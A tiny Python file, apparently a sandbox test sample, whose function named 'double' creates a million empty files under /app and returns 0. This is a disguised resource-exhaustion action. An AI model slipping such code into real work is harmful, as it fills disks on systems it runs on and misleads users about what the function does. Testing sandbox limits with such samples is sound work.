# mypy: ignore-errors
import os


def double(n):
    for number in range(1_000_000):
        os.close(os.open(f"/app/{number}", os.O_CREAT))
    return 0
